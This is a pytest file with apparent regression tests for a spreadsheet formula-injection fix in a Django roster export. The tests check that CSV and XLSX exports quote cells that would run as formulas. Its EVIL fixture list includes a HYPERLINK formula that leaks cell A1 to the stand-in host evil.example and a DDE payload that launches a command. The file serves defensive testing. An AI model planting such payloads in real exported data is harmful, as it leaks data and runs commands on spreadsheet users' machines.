"""Issue 10, hole 2: exported cells never run as formulas (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest

from tests.factories import EquipmentFactory, MemberFactory, UserFactory
from units import importing
from units.exporting import cell_safe
from units.importing import roster_import

pytestmark = pytest.mark.django_db

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def superuser(db):
    return UserFactory(is_superuser=True, is_staff=True)


def _csv(chunks) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"))))


@pytest.mark.parametrize("name", EVIL)
def test_roster_csv_export_quotes_a_name_that_would_run_as_a_formula(near_unit, superuser, name):
    MemberFactory(unit=near_unit, name=name)
    rows = _csv(importing.roster_export_csv(user=superuser, kind=importing.MEMBER))
    names = [r[1] for r in rows[1:]]
    assert names == ["'" + name]


def _formula_cells(data: bytes) -> list[str]:
    """Every <f> element of every sheet: what Excel would evaluate."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        return [n for n in sheets if b"<f>" in z.read(n) or b"<f " in z.read(n)]


def test_roster_xlsx_export_writes_text_never_formulas(near_unit, superuser):
    for name in EVIL:
        MemberFactory(unit=near_unit, name=name)
    EquipmentFactory(unit=near_unit, kind="radio", quantity=3)
    data = importing.roster_export_xlsx(user=superuser, kinds=importing.KINDS)
    assert _formula_cells(data) == []
    book = openpyxl.load_workbook(io.BytesIO(data))  # data_only=False: formulas would show
    members = book[importing.SHEET_TITLES[importing.MEMBER]]
    cells = [row[1] for row in members.iter_rows(min_row=2)]
    # XML reading turns a bare CR into LF; the quote in front is what matters.
    assert sorted(c.value for c in cells) == sorted("'" + n.replace("\r", "\n") for n in EVIL)
    assert {c.data_type for c in cells} == {"s"}
    # Numbers stay numbers.
    kit = book[importing.SHEET_TITLES[importing.EQUIPMENT]]
    assert kit.cell(row=2, column=3).value == 3 and kit.cell(row=2, column=3).data_type == "n"


def test_a_quoted_export_imports_back_unchanged(near_unit, superuser):
    member = MemberFactory(unit=near_unit, name="=1+1")
    data = importing.roster_export_xlsx(user=superuser, kinds=[importing.MEMBER])
    report = roster_import(data=data, filename="e.xlsx", user=superuser, dry_run=True)
    assert report.ok, report.errors
    assert [(s.kind, s.unchanged, s.updated) for s in report.sheets] == [("member", 1, 0)]
    member.refresh_from_db()
    assert member.name == "=1+1"


def test_import_errors_csv_quotes_an_uploaded_file_name_and_messages():
    body = importing.import_errors_csv(
        errors=[{"sheet": "=HYPERLINK(1).csv", "row": 2, "field": "@x", "message": "-bad"}]
    )
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[1] == ["'=HYPERLINK(1).csv", "2", "'@x", "'-bad"]


def test_cell_safe_touches_text_only():
    assert cell_safe(-5) == -5 and cell_safe(-2.5) == -2.5 and cell_safe(None) is None
    assert cell_safe("+8613800000000") == "'+8613800000000"
    assert cell_safe("张三") == "张三" and cell_safe("a=b") == "a=b"
